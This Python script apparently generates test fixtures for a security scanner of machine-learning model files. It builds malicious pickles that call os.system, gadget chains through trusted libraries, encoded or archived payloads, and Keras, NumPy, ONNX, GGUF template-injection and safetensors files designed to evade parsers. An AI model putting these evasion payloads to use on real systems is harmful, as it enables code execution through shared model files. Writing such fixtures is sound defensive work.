"""
Files by somebody who has read our source, as {name: base64}: harmless names in uses that nobody thought of, letters that other
readers decode, headers that readers understand differently. attacks.test.ts says what must be said of each. Made here, never loaded.
"""
import base64
import gzip
import io
import json
import os
import pickle
import sqlite3
import struct
import sys
import tarfile
import tempfile
import warnings
import zipfile
import zlib

warnings.simplefilter("ignore")
DATE = (1980, 1, 1, 0, 0, 0)
files = {}


class Evil:
    def __reduce__(self):
        return os.system, ("echo inherited",)


EVIL = pickle.dumps(Evil(), 4)
EVIL2 = pickle.dumps(Evil(), 2)
EVIL0 = pickle.dumps(Evil(), 0)


# Pickles, put together from values that are already opcodes.
def name(module, attribute):
    return b"c" + module.encode() + b"\n" + attribute.encode() + b"\n"


def text(value):
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def number(value):
    data = value.to_bytes(value.bit_length() // 8 + 1, "little", signed=True)
    return b"\x8a" + bytes([len(data)]) + data


def items(*values):
    return b"(" + b"".join(values) + b"t"


def listed(*values):
    return b"](" + b"".join(values) + b"e"


def keyed(**values):
    return b"}(" + b"".join(text(key) + value for key, value in values.items()) + b"u"


def call(callee, *arguments):
    return callee + items(*arguments) + b"R"


def new(callee, *arguments):
    return callee + items(*arguments) + b"\x81"


def built(value, state):
    return value + state + b"b"


def stored(value, *values):
    return value + b"(" + b"".join(values) + b"e"


def saved(value, protocol=4):
    return b"\x80" + bytes([protocol]) + value + b"."


NONE, TRUE = b"N", b"\x88"
namespace = name("argparse", "Namespace")
partial = name("functools", "partial")
# Its constructor evaluates a text of its configuration.
model = name("ultralytics.nn.tasks", "DetectionModel")
evaluates = keyed(activation=text("__import__('os').system('echo inherited')"), nc=number(1))
carries = built(new(namespace), keyed(keys=call(partial, model, evaluates)))

# What vouched code calls of the values that it is given
for who in "builtins.dict", "collections.OrderedDict", "collections.UserDict", "collections.Counter", "collections.ChainMap":
    module, attribute = who.split(".")
    files[f"keys of {attribute}.pkl"] = saved(call(name(module, attribute), carries))
files["keys of defaultdict.pkl"] = saved(call(name("collections", "defaultdict"), NONE, carries))
files["keys in a list.pkl"] = saved(call(name("builtins", "dict"), listed(carries)))
files["append of a list.pkl"] = saved(stored(built(new(name("collections", "UserList")), keyed(
    data=built(new(namespace), keyed(append=model)))), evaluates))
files["item of a dict.pkl"] = saved(built(new(name("collections", "UserDict")), keyed(
    data=built(new(namespace), keyed(__setitem__=model)))) + b"(" + text("a") + evaluates + b"u")
files["partial of a class.pkl"] = saved(call(partial, model, evaluates))
files["partial by its state.pkl"] = saved(built(call(partial, name("builtins", "int")), items(model, items(evaluates), b"}", NONE)))
files["partial by NEWOBJ.pkl"] = saved(new(partial, model, evaluates))
files["partial by INST.pkl"] = saved(b"(" + model + evaluates + b"ifunctools\npartial\n")
files["partial of type.pkl"] = saved(call(partial, name("builtins", "type"), text("X"), items(model), b"}"))
files["type by NEWOBJ.pkl"] = saved(new(name("builtins", "type"), text("X"), items(name("builtins", "object")), b"}"))
files["class of an instance.pkl"] = saved(new(call(name("builtins", "type"), new(model)), evaluates))
files["called class of an instance.pkl"] = saved(call(call(name("builtins", "type"), new(model)), evaluates))
files["constructor.pkl"] = saved(call(model, evaluates))
files["constructor by OBJ.pkl"] = saved(b"(" + model + evaluates + b"o")
files["constructor by INST.pkl"] = saved(b"(" + evaluates + b"iultralytics.nn.tasks\nDetectionModel\n")
files["factory.pkl"] = saved(call(name("collections", "defaultdict"), model))
files["factory that is a partial.pkl"] = saved(call(name("collections", "defaultdict"), call(partial, model, evaluates)))
files["factory by its state.pkl"] = saved(built(call(name("collections", "defaultdict")), items(NONE, keyed(default_factory=model))))
files["applied.pkl"] = saved(call(name("torch._tensor", "_rebuild_from_type_v2"), model, name("torch", "Tensor"), items(evaluates), NONE))
files["apply that applies.pkl"] = saved(call(name("torch._tensor", "_rebuild_from_type_v2"), name("torch._tensor", "_rebuild_from_type_v2"),
    name("torch", "Tensor"), items(name("torch._tensor", "_rebuild_from_type_v2"), name("torch", "Tensor"),
    items(model, name("torch", "Tensor"), items(evaluates)), NONE), NONE))
files["bit generator.pkl"] = saved(call(name("numpy.random._pickle", "__generator_ctor"), evaluates, model))
for function in "mean", "sum", "sqrt":
    files[f"memory of {function}.pkl"] = saved(call(name("numpy", function), built(new(namespace), keyed(
        __array_interface__=keyed(shape=items(number(1)), typestr=text("<i8"), data=items(number(4096), TRUE), version=number(3))))))
files["memory of a scalar.pkl"] = saved(call(name("numpy", "float64"), built(new(namespace), keyed(
    __array_interface__=keyed(shape=items(number(1)), typestr=text("<i8"), data=items(number(4096), TRUE), version=number(3))))))
files["memory in slots.pkl"] = saved(call(name("numpy", "float64"), built(new(namespace), items(NONE, keyed(
    __array_struct__=number(4096))))))
files["hook in a text of Python 2.pkl"] = b"(iargparse\nNamespace\n(dS'__setstate__'\ncargparse\nNamespace\nsb."
files["hook by its number.pkl"] = saved(built(new(namespace), b"}" + text("__class__") + model + b"s"))
files["getattr of an instance.pkl"] = saved(call(name("builtins", "getattr"), new(namespace), text("__class__")))
files["getattr of bases.pkl"] = saved(call(name("builtins", "getattr"), name("builtins", "int"), text("__subclasses__")))
files["getattr with three.pkl"] = saved(call(name("builtins", "getattr"), name("collections", "OrderedDict"), text("fromkeys"), NONE))
files["dotted into a method.pkl"] = saved(b"\x8c\x08builtins\x8c\x18object.__subclasshook__x\x93")
files["dotted to globals.pkl"] = saved(b"\x8c\x0bcollections\x8c\x20OrderedDict.fromkeys.__globals__\x93")
files["format of a text.pkl"] = saved(call(b"\x8c\x08builtins\x8c\x0astr.format\x93", text("{0.__class__.__init__.__globals__}"), new(namespace)))
files["codec of a text.pkl"] = saved(call(name("_codecs", "encode"), text("x"), text("idna")))
files["codec that imports.pkl"] = saved(call(name("_codecs", "encode"), text("x"), text("antigravity")))
files["ufunc of a module.pkl"] = saved(call(name("numpy.core", "_ufunc_reconstruct"), text("os"), text("system")))
files["ufunc of a path.pkl"] = saved(call(name("numpy._core", "_ufunc_reconstruct"), text("evil_module"), text("x")))
files["attribute of a module.pkl"] = saved(name("numpy", "os") + b"0" + NONE)
files["module of a vouched one.pkl"] = saved(b"\x8c\x05numpy\x8c\x09os.system\x93" + items(text("id")) + b"R")
files["list of types in dill.pkl"] = saved(call(name("dill._dill", "_load_type"), text("FunctionType")))
files["type of dill.pkl"] = saved(call(call(name("dill._dill", "_load_type"), text("type")), text("X"), items(), b"}"))
files["extension in a list.pkl"] = saved(b"](\x82\x05\x83\x05\x01\x84\x05\x01\x00\x00e")
files["id that is a call.pkl"] = saved(call(name("builtins", "getattr"), name("os", "path"), text("x")) + b"Q")
files["storage by a call.pkl"] = saved(items(text("storage"), call(name("torch", "FloatStorage"), evaluates), text("0"), text("cpu"), number(1)) + b"Q", 2)
files["array beside.pkl"] = saved(built(new(name("joblib.numpy_pickle_compat", "NDArrayWrapper")), keyed(
    filename=text("/tmp/evil.npy"), subclass=name("numpy", "ndarray"), allow_mmap=TRUE)))
files["array above.pkl"] = saved(built(new(name("joblib.numpy_pickle", "NDArrayWrapper")), keyed(
    filename=text("../x.npy"), subclass=name("numpy", "ndarray"))))

# States whose names nobody sees, methods that are attributes
def added(value, **values):
    return value + keyed(**values)[1:]


many = listed(*[b"K\1"] * 60_000)
files["state of another class.pkl"] = saved(built(
    built(new(namespace), added(call(name("collections", "OrderedDict")), __setstate__=model)), evaluates))
files["state in two parts.pkl"] = saved(many + built(built(new(namespace), added(added(b"}", a=NONE), __setstate__=model)), evaluates))
files["state from the memo.pkl"] = saved(many + b"}q\x05" + keyed(__setstate__=model)[1:] + b"0"
    + built(built(new(namespace), b"h\x05"), evaluates))
files["state of many names.pkl"] = saved(many + built(built(new(namespace), b"}(" + b"".join(
    text(f"a{at}") + NONE for at in range(900)) + text("__setstate__") + model + b"u"), evaluates))
files["attribute append.pkl"] = saved(built(call(name("collections", "OrderedDict")), keyed(append=model)) + evaluates + b"a")
files["attribute extend.pkl"] = saved(stored(built(call(name("collections", "deque")), keyed(extend=model)), evaluates))
files["attribute add.pkl"] = saved(built(call(name("builtins", "set")), keyed(add=model)) + b"(" + evaluates + b"\x90")

# Loads that do not end, or need all memory
files["endless list.pkl"] = saved(call(name("builtins", "list"), call(name("itertools", "count"))))
files["endless repetition.pkl"] = saved(call(name("builtins", "tuple"), call(name("itertools", "repeat"), NONE)))
files["endless cycle.pkl"] = saved(call(name("collections", "deque"), call(name("itertools", "cycle"), listed(NONE))))
files["endless counter.pkl"] = saved(call(name("collections", "Counter"), call(name("itertools", "count"))))
files["long range.pkl"] = saved(call(name("builtins", "list"), call(name("builtins", "range"), number(10**12))))
files["many bytes.pkl"] = saved(call(name("builtins", "bytes"), number(10**13)))
files["many bytes in an array.pkl"] = saved(call(name("builtins", "bytearray"), number(10**13)))
files["product.pkl"] = saved(call(name("builtins", "set"), call(name("itertools", "product"), text("0123456789" * 9), text("0123456789" * 9),
    text("0123456789" * 9), text("0123456789" * 9), text("0123456789" * 9), text("0123456789" * 9))))
files["large fraction.pkl"] = saved(call(name("fractions", "Fraction"), text("1e999999999")))

# Letters
long = base64.b64encode(EVIL).decode()
files["digits with escapes.json"] = json.dumps({"a": "".join(f"\\x{byte:02x}" for byte in EVIL)}).encode()
files["bytes of Python.txt"] = f"CACHED = {EVIL!r}\n".encode()
files["packed and in letters.json"] = json.dumps({"cache": base64.b64encode(zlib.compress(EVIL * 3)).decode()}).encode()
files["letters of addresses.env"] = b"CACHE=" + base64.urlsafe_b64encode(gzip.compress(EVIL, mtime=0)).rstrip(b"=") + b"\n"
files["letters in lines.yaml"] = b"cache: !!binary |\n" + b"".join(
    b"  " + line + b"\n" for line in base64.encodebytes(EVIL + pickle.dumps(list(range(300)), 4)).split())
files["letters with slashes.json"] = json.dumps({"a": base64.b64encode(EVIL + b"\xff\xff\xff" * 9).decode()}).replace("/", "\\/").encode()
files["wide letters.json"] = json.dumps({"a": long}).encode("utf-16")
files["letters in short lines.txt"] = b"\n".join(long[at : at + 32].encode() for at in range(0, len(long), 32))
files["long line.json"] = json.dumps({"x": "y" * (17 << 20), "cache": long}).encode()
files["pickle of letters.json"] = json.dumps({"a": base64.b64encode(EVIL0).decode()}).encode()


# Archives
def zipped(*members, method=zipfile.ZIP_STORED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for member, data in members:
            archive.writestr(zipfile.ZipInfo(member, DATE), data, method)
    return out.getvalue()


def keras(config, encoding="utf-8", member="config.json"):
    return zipped((member, config.encode(encoding)), ("metadata.json", '{"keras_version": "3.0"}'), ("model.weights.h5", b""))


lambdas = json.dumps({"module": "keras", "class_name": "Sequential", "registered_name": None, "config": {"layers": [
    {"module": "keras.layers", "class_name": "Lambda", "registered_name": None, "config": {"function": {
        "class_name": "__lambda__", "config": {"code": "4wEA", "defaults": None, "closure": None}}}}]}})
files["wide configuration.keras"] = keras(lambdas, "utf-16")
files["wider configuration.keras"] = keras(lambdas, "utf-32-le")
files["mark in front.keras"] = keras(lambdas, "utf-8-sig")
files["not a number.keras"] = keras(lambdas[:-1] + ', "x": NaN, "y": -Infinity}')
files["twice the class.keras"] = keras(lambdas.replace('"class_name": "Lambda"', '"class_name": "Dense", "class_name": "Lambda"'))
files["configuration in capitals.keras"] = keras(lambdas, member="CONFIG.JSON")
files["configuration within.keras"] = keras(lambdas, member="a/config.json")
files["type specification.keras"] = keras(json.dumps({"module": "keras", "class_name": "Sequential", "config": {"layers": [
    {"class_name": "__typespec__", "module": "evil", "spec_name": "Spec", "serialized": []}]}}))
files["class of Python.keras"] = keras(json.dumps({"module": "builtins", "class_name": "eval", "config": "1"}))
files["registered.keras"] = keras(json.dumps({"module": None, "class_name": "Evil", "registered_name": "pkg>Evil", "config": {}}))
files["wide schema.skops"] = zipped(("schema.json", json.dumps({
    "__class__": "system", "__module__": "os", "__loader__": "FunctionNode", "content": 1, "protocol": 2}).encode("utf-16")))
files["schema with NaN.skops"] = zipped(("schema.json",
    b'{"__class__": "system", "__module__": "os", "__loader__": "FunctionNode", "content": NaN, "protocol": 2}'))
files["document with NaN.json"] = b'{"a": NaN, "py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}'
files["settings with NaN/config.json"] = b'{"x": NaN, "auto_map": {"AutoModel": "evil.Model"}}'


def npy(header, body=EVIL):
    data = header + b"\n"
    return b"\x93NUMPY\1\0" + struct.pack("<H", len(data)) + data + body


files["twice the type.npy"] = npy(b"{'descr': '<f8', 'descr': '|O', 'fortran_order': False, 'shape': (1,)}")
files["two texts.npy"] = npy(b"{'descr': '|' 'O', 'fortran_order': False, 'shape': (1,)}")
files["three apostrophes.npy"] = npy(b"{'descr': '''|O''', 'fortran_order': False, 'shape': (1,)}")
files["raw text.npy"] = npy(b"{'descr': r'|O', 'fortran_order': False, 'shape': (1,)}")
files["comment.npy"] = npy(b"{'descr': '|O', # '<f8'\n 'fortran_order': False, 'shape': (1,)}")
files["sum.npy"] = npy(b"{'descr': '|O', 'fortran_order': False, 'shape': (0+1,)}")
files["letter by its name.npy"] = npy(b"{'descr': '|\\N{LATIN CAPITAL LETTER O}', 'fortran_order': False, 'shape': (1,)}")
files["objects of old.npy"] = npy(b"{'descr': 'object0', 'fortran_order': False, 'shape': (1,)}")
files["line continued.npy"] = npy(b"{'descr': '|\\\nO', 'fortran_order': False, 'shape': (1,)}")


# Models
def varint(value):
    out = b""
    while value > 127:
        out, value = out + bytes([value & 127 | 128]), value >> 7
    return out + bytes([value])


def field(number, data):
    return varint(number << 3 | 2) + varint(len(data)) + data


def entry(key, value):
    return field(13, field(1, key) + field(2, value))


outside = field(5, b"\x08\x01\x10\x01" + field(8, b"w") + entry(b"location", b"../../etc/passwd") + varint(14 << 3) + b"\x01")
graph = field(2, b"g")
onnx = b"\x08\x08" + field(8, field(1, b"") + b"\x10\x11")
files["two graphs.onnx"] = onnx + field(7, graph) + field(7, outside)
files["location twice.onnx"] = onnx + field(7, graph + field(5, b"\x08\x01\x10\x01" + field(8, b"w") + entry(b"location", b"weights.bin")
    + entry(b"location", b"/etc/passwd") + varint(14 << 3) + b"\x01"))
files["long number.onnx"] = onnx + b"\xba\x80\x80\x80\x00" + varint(len(graph + outside)) + graph + outside


def gguf(template):
    def string(value):
        return struct.pack("<Q", len(value)) + value.encode()

    data = b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + string("tokenizer.chat_template") + struct.pack("<I", 8) + string(template)
    return data + bytes(-len(data) % 32)


for what, template in {
    "format": "{{ x[ '%c%cclass%c%c'|format(95, 95, 95, 95) ] }}", "reverse": "{{ ''['__ssalc__'|reverse] }}",
    "replace": "{{ ''['aaclassaa'|replace('a', y)] }}", "tag": "{%- set a = '%cx'|format(95) -%}{{ ''[a * 2] }}",
    "block of raw text": "{% raw %}{% endraw %}{{ ''.__class__ }}",
    "filter with a name": "{{ ''|attr(x) }}", "line statement": "{{ ''\n.\n__class__ }}", "slice": "{{ ''['xx__class__'[2:]] }}",
    "dictionary": "{{ ''[dict(__class__=1)|first] }}", "letters": "{{ ''['\\137\\137class\\137\\137'] }}",
    "name of a letter": "{{ ''['\\N{LOW LINE}\\N{LOW LINE}class\\N{LOW LINE}\\N{LOW LINE}'] }}",
}.items():
    files[f"{what}.gguf"] = gguf(template)


def safetensors(header, data=b""):
    return struct.pack("<Q", len(header)) + header + data


files["name twice.safetensors"] = safetensors(b'{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]},"a":{"dtype":"U8","shape":[2,2],"data_offsets":[0,4]}}', bytes(4))
files["key twice.safetensors"] = safetensors(b'{"a":{"dtype":"U8","dtype":"I8","shape":[4],"data_offsets":[0,4]}}', bytes(4))
files["name twice by escapes.safetensors"] = safetensors(b'{"a":{"dtype":"U8","shape":[2],"data_offsets":[0,2]},"\\u0061":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}}', bytes(4))

# Databases and archives of archives
with tempfile.TemporaryDirectory() as folder:
    path = os.path.join(folder, "a.db")
    with sqlite3.connect(path) as database:
        database.execute("create table cache (key text, value)")
        database.execute("insert into cache values ('a', ?)", (base64.b64encode(EVIL).decode(),))
        database.execute("insert into cache values ('b', ?)", (EVIL.hex(),))
        database.commit()
    database.close()
    with open(path, "rb") as made:
        files["letters in a column.db"] = made.read()
out = io.BytesIO()
with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as archive:
    info = tarfile.TarInfo("notes.txt")
    info.pax_headers = {"path": "../../model.pkl"}
    info.size = len(EVIL)
    archive.addfile(info, io.BytesIO(EVIL))
files["path in a header.tar"] = out.getvalue()
files["pickle of a text in an archive.zip"] = zipped(("settings.json", json.dumps({"cache": long})))
files["library of a sum.zip"] = zipped(("a/b.whl", zipped(("c/model.joblib", zlib.compress(EVIL)))))

if __name__ == "__main__":
    json.dump({name: base64.b64encode(data).decode() for name, data in files.items()}, sys.stdout)
